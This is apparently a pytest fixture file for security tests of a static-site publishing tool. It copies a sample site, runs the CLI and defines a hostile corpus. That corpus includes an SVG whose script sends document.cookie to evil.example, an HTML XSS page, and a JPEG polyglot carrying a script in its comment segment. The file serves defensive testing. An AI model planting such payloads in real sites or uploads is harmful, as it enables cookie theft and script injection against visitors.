"""Fixtures for the hostile-content tests: a small copy of the sample site, the CLI, a hostile corpus."""

from __future__ import annotations

import io
import shutil
from pathlib import Path

import pytest
from PIL import Image

from lpublish.cli.main import main
from tests.plugins.sample_site import copy_sample_site, shrink_images

NOW = "2026-11-23T10:00"
CAMPAIGN = "campaigns/autumn-tea-2026"


@pytest.fixture(scope="session")
def small_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    site = copy_sample_site(tmp_path_factory.mktemp("security-site") / "site")
    shrink_images(site)
    toml = site / "lpublish.toml"
    text = toml.read_text(encoding="utf-8")
    text = text.replace("widths = [480, 960, 1440, 1920]", "widths = [120]")
    text = text.replace("widths = [320, 640, 960]", "widths = [100]")
    text = text.replace('formats = ["avif", "webp"]', 'formats = ["webp"]')
    toml.write_text(text, encoding="utf-8")
    return site


@pytest.fixture
def site(small_site: Path, tmp_path: Path) -> Path:
    """A private, changeable copy of the small sample site."""
    return Path(shutil.copytree(small_site, tmp_path / "site"))


def run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    """The real CLI entry point: exit code, stdout, stderr."""
    with pytest.raises(SystemExit) as exited:
        main(argv)
    out, err = capsys.readouterr()
    return int(exited.value.code or 0), out, err


def jpeg_bytes(size: tuple[int, int] = (64, 36)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (40, 80, 120)).save(buffer, "JPEG", quality=80)
    return buffer.getvalue()


EVIL_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>"
)
EVIL_HTML = b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>"


def polyglot_jpeg() -> bytes:
    """A real JPEG whose comment segment carries an HTML page (decodes fine, nothing after its end)."""
    data = jpeg_bytes()
    payload = b"<html><body><script>alert(1)</script></body></html>"
    comment = b"\xff\xfe" + (len(payload) + 2).to_bytes(2, "big") + payload
    return data[:2] + comment + data[2:]


def write_body(site: Path, body: str, folder: str = CAMPAIGN) -> Path:
    """Replace the body of a campaign (keeping its front matter)."""
    index = site / folder / "index.md"
    text = index.read_text(encoding="utf-8")
    head, _, _ = text.partition("\n---\n")
    index.write_text(head + "\n---\n\n" + body + "\n", encoding="utf-8")
    return index
